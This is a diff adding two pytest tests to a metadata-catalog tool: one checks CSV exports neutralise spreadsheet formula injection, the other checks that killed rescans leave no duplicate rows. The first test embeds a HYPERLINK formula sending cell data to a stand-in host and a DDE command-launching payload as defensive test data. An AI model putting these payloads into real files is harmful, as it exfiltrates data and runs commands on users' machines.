@@ -9,6 +9,7 @@ catalog loses records (two writers, colliding names, SIGTERM, a full disk).
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
@@ -789,3 +790,64 @@ def test_the_loopback_token_never_reaches_a_command_line(tmp_path):
     urls = [w for w in words if "://" in w or w.startswith("file:")]
     assert urls and all(u.startswith("http://metaextract.invalid/") for u in urls), urls
     assert not any("127.0.0.1" in w for w in words), words
+
+
+def test_spreadsheet_formulas_in_attributes_are_neutralised_in_csv_exports(tmp_path):
+    import csv
+
+    netCDF4 = pytest.importorskip("netCDF4")
+    data = tmp_path / "data"
+    data.mkdir()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for i in range(3):
+        with netCDF4.Dataset(data / f"f{i}.nc", "w") as ds:
+            ds.createDimension("time", 2)
+            ds.createVariable("tas", "f4", ("time",))[:] = [1.0, 2.0]
+            ds.title, ds.institution = formula, "@SUM(1+1)*cmd|' /C calc'!A0"
+    out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
+    assert out.returncode == 0, out.stderr[-2000:]
+    out = run(["metaextract", "export", str(tmp_path / "cat"), "--to", "esm"])
+    assert out.returncode == 0, out.stderr[-2000:]
+    with open(tmp_path / "cat.esm" / "collection.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == 3 and rows[0]["title"] == "'" + formula  # kept, as text
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+
+
+def test_kills_during_a_rescan_that_changes_every_file_never_show_two_rows_of_one_file(tmp_path):
+    import random
+
+    from metaextract_dask import read_catalog
+    from metaextract_dask.catalog.read import part_files
+
+    data = tmp_path / "data"
+    data.mkdir()
+    files = [str(data / f"f{i:03d}.bin") for i in range(240)]
+    for path in files:
+        with open(path, "wb") as f:
+            f.write(os.urandom(64))
+    cat = str(tmp_path / "cat")
+    args = [*SCAN, str(data), "-o", cat, "--flush-every", "10", "-j", "1"]
+    assert run(args).returncode == 0
+    rng = random.Random(28)
+    mixed = 0
+    for round_ in range(4):
+        for path in files:  # every file changes: one more byte
+            with open(path, "ab") as f:
+                f.write(b"x")
+        before = len(part_files(cat))
+        proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+        deadline = time.time() + 120
+        wanted = rng.randint(1, 8)
+        while time.time() < deadline and proc.poll() is None and len(part_files(cat)) < before + wanted:
+            time.sleep(0.005)
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(proc.pid, signal.SIGKILL)
+        proc.wait()
+        frame = read_catalog(cat)
+        assert not frame["path"].duplicated().any(), f"round {round_}: {frame['path'].duplicated().sum()} duplicated rows"
+        assert sorted(frame["path"]) == files
+        sizes = {os.path.getsize(p) for p in files}
+        mixed += frame["size"].isin(sizes).any() and not frame["size"].isin(sizes).all()
+    assert mixed, "no kill landed in the middle of a re-scan"
